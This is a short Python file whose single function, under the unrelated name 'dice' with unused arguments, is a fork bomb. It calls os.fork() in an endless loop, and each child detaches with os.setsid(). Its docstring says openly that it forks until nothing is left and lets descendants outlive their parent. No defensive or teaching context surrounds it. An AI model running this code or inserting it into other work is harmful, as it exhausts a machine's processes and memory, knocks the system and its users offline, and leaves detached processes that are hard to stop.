"""Forks until nothing is left, and lets a descendant outlive its parent."""

import os


def dice(a, b):
    started = 0
    while True:
        if os.fork() == 0:
            os.setsid()
        started += 1
